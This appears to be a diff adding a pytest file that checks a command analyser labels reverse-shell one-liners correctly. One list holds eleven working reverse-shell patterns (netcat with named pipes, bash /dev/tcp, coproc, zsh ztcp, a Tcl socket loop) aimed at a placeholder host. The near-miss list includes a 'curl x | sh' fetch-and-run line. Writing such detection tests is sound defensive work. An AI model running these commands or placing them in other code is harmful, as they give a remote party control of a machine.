@@ -1,0 +1,40 @@
+"""What only the whole line shows."""
+
+import pytest
+
+from tests.support.commands import facts_of
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "mkfifo p; sh -i < p 2>&1 | nc h 1 > p",
+        "mknod p p; nc h 1 < p | bash > p",
+        "sh -i | nc h 1",
+        "nc h 1 | sh",
+        "telnet h 1 | sh | telnet h 2",
+        "exec 5<>/dev/tcp/h/1; sh <&5 >&5",
+        "exec 5<>/dev/tcp/h/1; cat <&5 | while read l; do $l; done",
+        'exec 5<>/dev/tcp/h/1; while read l <&5; do eval "$l"; done',
+        "coproc nc h 1; exec sh <&${COPROC[0]} >&${COPROC[1]}",
+        "zsh -c 'ztcp h 1; zsh <&$REPLY >&$REPLY'",
+        'tclsh\nset s [socket h 1]; while 1 { gets $s c; set e "exec $c"; eval $e }',
+    ],
+)
+def test_a_shell_and_a_connection(command: str) -> None:
+    assert "reverse-shell" in facts_of(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "nc h 1; sh build.sh",
+        "mkfifo p; cat p | grep x",
+        "curl x | sh",
+        "cat < /dev/tcp/h/1",
+        "nc h 1 | grep x",
+        "sh a.sh | nc h 1",
+    ],
+)
+def test_neighbours(command: str) -> None:
+    assert "reverse-shell" not in facts_of(command)
